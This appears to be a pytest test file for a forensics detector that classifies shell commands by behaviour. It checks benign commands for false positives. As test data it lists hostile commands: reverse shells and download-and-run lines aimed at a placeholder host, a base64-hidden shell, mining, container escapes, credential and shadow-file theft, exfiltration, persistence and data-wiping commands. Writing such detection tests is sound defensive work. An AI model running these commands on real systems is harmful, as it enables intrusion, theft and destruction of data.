"""Commands by what they do: each behaviour recognised in several dresses, ordinary commands left alone."""

# ruff: noqa: E501 - a command stands on one line
from __future__ import annotations

import base64

import pytest

from forensics.analyze.behaviour import find_behaviours

HIDDEN = base64.b64encode(b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1").decode()
WALLET = "4" + "8edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell"),
        ("exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | sh", "reverse-shell"),
        ("nc 192.0.2.1 4444 -e /bin/sh", "reverse-shell"),
        ("busybox nc -ll -p 31337 -e /bin/ash", "reverse-shell"),
        ("rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 192.0.2.1 1 > /tmp/p", "reverse-shell"),
        ("socat exec:'bash -li',pty,stderr tcp:192.0.2.1:4444", "reverse-shell"),
        (
            (
                'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("x",1));'
                '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\''
            ),
            "reverse-shell",
        ),
        (f"echo {HIDDEN} | base64 -d | bash", "reverse-shell"),
        (f"echo {HIDDEN} | base64 --decode | sh", "decode-and-run"),
        ("curl -fsSL http://192.0.2.1/i.sh | bash", "download-and-run"),
        ("(wget -qO- http://192.0.2.1/i.sh || true) | sh", "download-and-run"),
        ('bash -c "$(curl -s http://192.0.2.1/i)"', "download-and-run"),
        ("c''url${IFS}http://192.0.2.1/i|s\"\"h", "download-and-run"),
        ("wget http://192.0.2.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "download-and-run"),
        (f"./a -o 192.0.2.1:3333 -u {WALLET} -p x -k", "mining"),
        ("worker --url stratum+ssl://pool.example:443", "mining"),
        ("echo /cmd > /sys/fs/cgroup/rdma/release_agent", "container-escape"),
        ("echo '|/x' > /proc/sys/kernel/core_pattern", "container-escape"),
        ("nsenter -t 1 -m -u -n -i sh", "container-escape"),
        ("curl -s --unix-socket /var/run/docker.sock http://x/containers/json", "engine-api"),
        ("wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/", "cloud-credentials"),
        ("tar czf /tmp/l.tgz /root/.ssh /etc/shadow", "credential-theft"),
        ("tar c /data | nc 192.0.2.1 9000", "exfiltration"),
        ("history -c; unset HISTFILE", "anti-forensics"),
        ("chmod 4755 /tmp/bash", "privilege-backdoor"),
        ("echo /lib/x.so > /etc/ld.so.preload", "library-preload"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "install-persistence"),
        (
            "find /srv -type f | while read f; do openssl enc -aes-256-cbc -in $f -out $f.enc -k k; rm $f; done",
            "file-encryption",
        ),
        ("shred -n 3 -z -u /srv/data/customers.db", "data-destruction"),
        ("find /srv/data -type f -exec shred -uz {} +", "data-destruction"),
        ("dd if=/dev/zero of=/dev/vda bs=1M", "data-destruction"),
        ("rm -rf /srv/backup/* /var/lib/mysql/*", "data-destruction"),
        ("rm -rf --no-preserve-root /", "data-destruction"),
    ],
)
def test_behaviour_is_recognised(command: str, expected: str) -> None:
    assert expected in {hit.behaviour.id for hit in find_behaviours(command, script=False)}


@pytest.mark.parametrize(
    "command",
    [
        "nginx: master process nginx -g daemon off;",
        "postgres: walwriter",
        "python3 -m http.server 8000",
        "/usr/sbin/sshd -D",
        "apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && rm -rf /var/lib/apt/lists/*",
        "curl -fsSL https://deb.example.org/key.asc -o /etc/apt/keyrings/key.asc",
        "wget -O app.tar.gz https://example.org/app.tar.gz && tar xzf app.tar.gz",
        "curl -f http://localhost/health || exit 1",
        "cd / && run-parts --report /etc/cron.hourly",
        "sh -c 'nc -z db 5432 && exec app'",
        "node server.js --user app",
        "shred -u /tmp/build-secret",
        "dd if=/dev/zero of=/swapfile bs=1M count=512",
        "rm -rf /var/lib/apt/lists/* /tmp/* /var/cache/apk/*",
        "find /var/log -name '*.gz' -mtime +30 -delete",
        "useradd --system --uid 999 --shell /usr/sbin/nologin redis",
        "find /var/lib/php/sessions -type f -cmin +24 -delete",
        "ssh-keygen -A && exec /usr/sbin/sshd -D",
        "gunzip -c dump.sql.gz | psql app",
        "tar -C / -xzf /opt/app.tgz",
    ],
)
def test_ordinary_commands_are_left_alone(command: str) -> None:
    assert [hit.behaviour.id for hit in find_behaviours(command, script=False)] == []


def test_comments_of_a_script_do_not_count() -> None:
    text = "#!/bin/sh\n# curl http://x/y | sh would be wrong\nexec app\n"
    assert find_behaviours(text) == ()


def test_hostile_text_costs_little() -> None:
    text = "curl " * 60_000
    assert find_behaviours(text) == ()
